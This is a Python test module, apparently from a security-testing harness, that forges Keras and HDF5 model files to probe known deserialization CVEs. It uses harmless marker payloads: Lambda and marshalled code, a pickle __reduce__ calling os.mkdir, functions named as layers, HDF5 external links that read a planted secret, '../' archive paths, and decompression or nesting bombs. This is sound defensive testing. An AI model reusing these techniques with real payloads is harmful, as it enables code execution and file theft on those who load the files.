"""A stranger's file is loaded. Does it do what a file should not be able to do?

Asked for by the campaign of hostile files alone (configs/hostile.yaml). Every payload is harmless:
what runs leaves a marker beside the model, what is written elsewhere is written into the cell's own
folder, what is read is a file that was put there for it.

Known of these: CVE-2024-3660 (Lambda), CVE-2025-1550 (functions as layers), CVE-2025-8747 (those of
Keras itself), CVE-2025-9906 (safe mode switched off), CVE-2025-9905 (safe mode and HDF5),
CVE-2025-12058 (vocabularies as paths), CVE-2026-1669 (HDF5 that refers to other files).
"""

import base64
import io
import json
import marshal
import os
import zipfile

import h5py
import numpy

from experiments.scenarios import _archive, _files, _models, need

MARKER, AT_LOAD = "marker", "marker_at_load"
"""What code that ran leaves in the current folder; its name if it was there after loading."""
ESCAPED, SECRET = os.path.join(os.pardir, "escaped"), os.path.join(os.pardir, "secret")
"""What a path that leads out of an archive makes; what no file should make its reader read."""
NEVER_READ = 1
"""The time of reading of a secret that nobody has read."""
MIB, WHITESPACE_MIB = 1024 * 1024, 768
HUGE, LARGE = 1 << 40, 1 << 30
DEEP = 100000


PAYLOADS = [lambda inputs: (open("marker", "w").close(), inputs)[1]]
"""Leaves the marker. What a Lambda layer of the file does; a function with a name is not kept."""


# --- What a model is before anything is done to its file


def _with_lambda(tf):
    return tf.keras.Sequential(
        [
            tf.keras.layers.Dense(8, input_shape=(5,)),
            tf.keras.layers.Lambda(PAYLOADS[0], output_shape=(8,)),
            tf.keras.layers.Dense(3),
        ]
    )


def _with_op(tf):
    """A graph that writes a file whenever it computes: no Python code of the file runs."""

    class Writer(tf.keras.layers.Layer):
        def call(self, inputs):
            with tf.control_dependencies([tf.io.write_file(MARKER, "")]):
                return tf.identity(inputs)

    return tf.keras.Sequential([tf.keras.layers.Dense(3, input_shape=(5,)), Writer()])


def _functional(tf):
    inputs = tf.keras.Input((5,), name="first")
    return tf.keras.Model(inputs, tf.keras.layers.Dense(3, name="second")(inputs))


def _with_vocabulary(tf):
    lookup = need(tf.keras.layers, "StringLookup", "experimental.preprocessing.StringLookup")
    return tf.keras.Sequential(
        [tf.keras.Input((1,), dtype="string"), lookup(vocabulary=["stranger", "secret"])]
    )


BUILT = {
    "pristine": lambda tf: _models.mlp(tf.keras),
    "lambda": _with_lambda,
    "op": _with_op,
    "functional": _functional,
    "vocabulary": _with_vocabulary,
}


# --- What is done to the file


def _secret(content):
    """Put a file where none should be read, as one that was never read; return its whole path."""
    with open(SECRET, "wb") as stream:
        stream.write(content)
    os.utime(SECRET, (NEVER_READ, os.stat(SECRET).st_mtime))
    return os.path.abspath(SECRET)


def _edit_json(path, edit):
    """Change the model's configuration: a member of `.keras`, an attribute of HDF5."""
    if zipfile.is_zipfile(path):
        return _archive.packed_anew(
            path, lambda members: dict(members, **{"config.json": edit(members["config.json"])})
        )
    with h5py.File(_files.need_hdf5(path), "r+") as stream:
        config = stream.attrs["model_config"]
        stream.attrs["model_config"] = edit(
            config if isinstance(config, bytes) else config.encode("utf-8")
        )
    return path


def _edit_weights(path, edit):
    """Change the HDF5 file of the weights, also inside of an archive."""
    if not zipfile.is_zipfile(path):
        with h5py.File(_files.need_hdf5(path), "r+") as stream:
            edit(stream)
        return path

    def inside(members):
        stream = io.BytesIO(members[_archive.WEIGHTS])
        with h5py.File(stream, "r+") as opened:
            edit(opened)
        return dict(members, **{_archive.WEIGHTS: stream.getvalue()})

    return _archive.packed_anew(path, inside)


def _kernel(stream):
    """Return the path of the first matrix of a file, and what it holds."""
    found = []
    stream.visititems(
        lambda name, item: (
            found.append(name) if isinstance(item, h5py.Dataset) and item.ndim == 2 else None
        )
    )
    return found[0], stream[found[0]][()]


def external_link(path, cell):
    """Have a weight be a link to a dataset of another file."""

    def edit(stream):
        name, values = _kernel(stream)
        other = io.BytesIO()
        with h5py.File(other, "w") as secret:
            secret["stolen"] = values
        del stream[name]
        stream[name] = h5py.ExternalLink(_secret(other.getvalue()), "/stolen")

    return _edit_weights(path, edit)


def external_storage(path, cell):
    """Have the numbers of a weight be the bytes of another file."""

    def edit(stream):
        name, values = _kernel(stream)
        place = _secret(values.astype("<f4").tobytes())
        del stream[name]
        stream.create_dataset(name, values.shape, "<f4", external=[(place, 0, h5py.h5f.UNLIMITED)])

    return _edit_weights(path, edit)


def virtual_dataset(path, cell):
    """Have a weight be put together from a dataset of another file."""

    def edit(stream):
        name, values = _kernel(stream)
        other = io.BytesIO()
        with h5py.File(other, "w") as secret:
            secret["stolen"] = values
        place = _secret(other.getvalue())
        layout = h5py.VirtualLayout(values.shape, values.dtype)
        layout[:] = h5py.VirtualSource(place, "stolen", values.shape, values.dtype)
        del stream[name]
        stream.create_virtual_dataset(name, layout)

    return _edit_weights(path, edit)


def _declared(path, **how):
    def edit(stream):
        name, _ = _kernel(stream)
        del stream[name]
        stream.create_dataset(name, dtype="<f4", **how)

    return _edit_weights(path, edit)


def huge_shape(path, cell):
    """Declare a weight of 4 TiB, of which the file has nothing."""
    return _declared(path, shape=(HUGE,))


def packed_weights(path, cell):
    """Declare a weight of 4 GiB that takes a few bytes packed."""
    return _declared(path, shape=(LARGE,), chunks=(1 << 20,), compression="gzip")


def packed_config(path, cell):
    """Follow the configuration by whitespace that takes a thousandth of its size packed."""
    with zipfile.ZipFile(_files.need_zip(path)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            with archive.open(name, "w") as member:
                member.write(content)
                for _ in range(WHITESPACE_MIB if name == "config.json" else 0):
                    member.write(b" " * MIB)
    return path


def deep_config(path, cell):
    """Nest lists in the configuration, deeper than any reader goes."""
    deep = b'{"class_name": ' + b"[" * DEEP + b"]" * DEEP + b"}"
    return _edit_json(path, lambda content: deep)


def path_out_of_archive(path, cell):
    """Add members whose names lead out of the archive."""

    def edit(members):
        names = ("../escaped", "assets/../../escaped", os.path.abspath(ESCAPED))
        return dict(members, **dict.fromkeys(names, b""))

    return _archive.packed_anew(path, edit)


def pickled_weights(path, cell):
    """Have the weights be arrays of NumPy that are unpickled."""

    class Payload(object):
        def __reduce__(self):
            return os.mkdir, (MARKER,)

    pickled = io.BytesIO()
    arrays = numpy.empty((), dtype=object)
    arrays[()] = Payload()
    numpy.savez(pickled, __root__=arrays)

    def edit(members):
        kept = {name: content for name, content in members.items() if name != _archive.WEIGHTS}
        return dict(kept, **{"model.weights.npz": pickled.getvalue()})

    return _archive.packed_anew(path, edit)


def vocabulary_of_file(path, cell):
    """Have a layer's vocabulary be a path."""

    def edit(content):
        config = json.loads(content)
        place = _secret(b"stranger\nsecret\n")
        for layer in config["config"]["layers"]:
            if "vocabulary" in layer["config"]:
                layer["config"]["vocabulary"] = place
        return json.dumps(config).encode("utf-8")

    return _edit_json(path, edit)


def _with_layers(path, *made):
    """Put layers in the place of all but the first of a functional model, which it then returns.

    Each of them is made of the model's own configuration, so that the names of modules are those
    of the release.
    """

    def edit(content):
        config = json.loads(content)
        return json.dumps(_of_layers(config, [make(config) for make in made])).encode("utf-8")

    return _edit_json(path, edit)


def _of_layers(model, layers):
    changed = json.loads(json.dumps(model))
    inner = changed["config"]
    inner["layers"] = [one for one in inner["layers"] if one["name"] == "first"] + layers
    # As Keras 2 and as Keras 3 name it: a list of places, or one place.
    inner["output_layers"] = inner["input_layers"]
    changed.pop("build_config", None)
    return changed


def _function(module, name, *arguments, **keywords):
    """Return a function where a layer should be, and the arguments that it is called with."""
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": name,
        "name": name,
        "inbound_nodes": [{"args": list(arguments), "kwargs": keywords}],
    }


def function_as_layer(path, cell):
    """Name a function of the standard library where a layer should be."""
    return _with_layers(path, lambda model: _function("os", "mkdir", MARKER))


def function_of_keras(path, cell):
    """Name a function of Keras that fetches files where a layer should be."""
    place = "file://" + _secret(b"secret")
    call = _function("keras.utils", "get_file", MARKER, place, cache_dir=".", cache_subdir=".")
    return _with_layers(path, lambda model: call)


def safe_mode_off(path, cell):
    """Have one layer switch safe mode off, and the next be code."""
    switch = _function("keras.config", "enable_unsafe_deserialization")
    code = base64.b64encode(marshal.dumps(PAYLOADS[0].__code__)).decode("ascii")
    function = {"code": code, "defaults": None, "closure": None}
    config = {
        "name": "code",
        "trainable": True,
        "dtype": "float32",
        "function": {"class_name": "__lambda__", "config": function},
        "arguments": {},
    }

    def code_layer(model):
        second = next(one for one in model["config"]["layers"] if one["name"] == "second")
        return dict(second, class_name="Lambda", config=config, name="code")

    def switching_model(model):
        return dict(_of_layers(model, [switch]), name="switch", inbound_nodes=[])

    return _with_layers(path, switching_model, code_layer)


FORGED = {
    "lambda_code": lambda path, cell: path,
    "op_in_graph": lambda path, cell: path,
    "function_as_layer": function_as_layer,
    "function_of_keras": function_of_keras,
    "safe_mode_off": safe_mode_off,
    "pickled_weights": pickled_weights,
    "vocabulary_of_file": vocabulary_of_file,
    "external_link": external_link,
    "external_storage": external_storage,
    "virtual_dataset": virtual_dataset,
    "path_out_of_archive": path_out_of_archive,
    "huge_shape": huge_shape,
    "packed_weights": packed_weights,
    "packed_config": packed_config,
    "deep_config": deep_config,
}
"""What a file is made into; by the name of the case."""


class Scenario(_files.PlainModel):
    """A case is a way to make a file do what it should not."""

    def build(self, tf, cell):
        return BUILT[cell["saved_as"]](tf)

    def inputs(self, cell):
        if os.path.exists(MARKER):  # asked for when the model is loaded, before it is used
            os.rename(MARKER, AT_LOAD)
        if cell["saved_as"] == "vocabulary":
            return [numpy.array([["secret"], ["stranger"]], dtype=object)]
        return super(Scenario, self).inputs(cell)

    def save(self, tf, model, path, cell):
        super(Scenario, self).save(tf, model, path, cell)
        for name in (MARKER, AT_LOAD):  # the author's own run of the code
            if os.path.exists(name):
                os.remove(name)

    def prepare(self, path, cell):
        _probe()
        return FORGED[cell["case"]](path, cell)


def _probe():
    """Raise where the file system does not tell when a file was read."""
    place = _secret(b"probe")
    with open(place, "rb") as stream:
        stream.read()
    if os.stat(place).st_atime <= NEVER_READ:
        raise RuntimeError("this file system does not tell when a file was read")
    os.remove(place)
